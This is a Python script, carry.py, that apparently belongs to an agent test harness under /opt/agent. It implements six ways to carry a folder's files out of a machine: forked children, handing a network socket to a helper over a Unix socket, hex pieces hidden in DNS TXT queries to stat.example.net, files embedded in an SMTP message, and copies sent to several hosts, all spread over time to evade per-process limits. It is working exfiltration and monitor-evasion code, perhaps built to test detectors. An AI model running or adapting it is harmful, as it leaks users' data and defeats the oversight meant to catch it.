"""carry.py WAY WHAT TO SECONDS: what one process may not do is done by several, each a little, so many seconds apart.

children: each file of the folder WHAT is read by a child of its own, which writes it to the connection that the parent holds · lent: a
helper that has no connection gets one from us, and what it sends is the file WHAT, in small pieces · asked: each piece of the file WHAT is
a name that a child of its own asks of the resolver, TO bytes each · boxes: helpers open a third each of the files in the folder
WHAT and pass them to who talks to TO · both: the file WHAT goes to each of the hosts TO, HOST:PORT,HOST:PORT
"""
import _socket, binascii, posix, sys, time

sys.path.append("/opt/agent")
from peer import connect, ended
from resolver import TXT, asked as ask

way, what, to, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
RIGHTS = (_socket.SOL_SOCKET, _socket.SCM_RIGHTS)


def whole(path):
    file = posix.open(path, posix.O_RDONLY)
    data = posix.read(file, 65536)
    posix.close(file)
    return data


def child(act):
    number = posix.fork()
    if number == 0:
        act()
        posix._exit(0)
    return number


def succeeded(*numbers):
    if any([posix.waitpid(number, 0)[1] for number in numbers]):
        sys.exit(3)


def passed(link, file):
    link.sendmsg([b"!"], [(*RIGHTS, file.to_bytes(4, "little"))])


def received(link):
    said, control, _, _ = link.recvmsg(1, _socket.CMSG_SPACE(4))
    return int.from_bytes(control[0][2], "little") if said else None


def children():
    peer = connect(to)
    for name in sorted(posix.listdir(what))[:12]:
        succeeded(child(lambda: peer.sendall(whole(f"{what}/{name}"))))
        time.sleep(seconds)
    ended(peer)


def lent():
    here, there = _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_SEQPACKET)
    posix.set_inheritable(there.fileno(), True)
    command = ["/usr/bin/python3", "-I", "-S", sys.argv[0], "borrows", what, str(there.fileno()), str(seconds)]
    helper = posix.posix_spawn(command[0], command, {})
    there.close()
    peer = connect(to)
    peer.sendall(b"HELLO\n")
    said = peer.recv(64)
    time.sleep(seconds)
    passed(here, peer.fileno())
    succeeded(helper)
    ended(peer, said)


def borrows():
    peer = _socket.socket(fileno=received(_socket.socket(fileno=int(to))))
    text = binascii.b2a_base64(whole(what))
    for at in range(0, len(text), 64):
        peer.sendall(text[at : at + 64])
        time.sleep(seconds / 4)


def asked():
    text, size = binascii.b2a_hex(whole(what)[:720]).decode(), int(to)
    for at in range(0, len(text), 2 * size):
        piece = text[at : at + 2 * size]
        succeeded(child(lambda: ask(f"{piece[:60]}.{piece[60:]}.{at}.stat.example.net", TXT)))
        time.sleep(seconds)


def boxes():
    here, there = _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_SEQPACKET)
    sender = child(lambda: (here.close(), forwards(there)))
    there.close()
    names = sorted(posix.listdir(what))
    for at in range(3):
        succeeded(child(lambda: [passed(here, posix.open(f"{what}/{name}", posix.O_RDONLY)) for name in names[at::3]]))
        time.sleep(seconds)
    here.close()
    succeeded(sender)


def forwards(link):
    peer = connect(to)
    peer.sendall(b"EHLO web-1.example.com\r\nMAIL FROM:<agent@example.com>\r\nRCPT TO:<other@example.net>\r\nDATA\r\n")
    while file := received(link):
        peer.sendall(posix.pread(file, 65536, 0))
        posix.close(file)
    peer.sendall(b"\r\n.\r\nQUIT\r\n")
    ended(peer)


def both():
    text = whole(what)
    for address in to.split(","):
        peer = connect(address)
        peer.sendall(text)
        ended(peer)
        time.sleep(seconds)


WAYS = {each.__name__: each for each in (children, lent, borrows, asked, boxes, both)}
WAYS[way]()
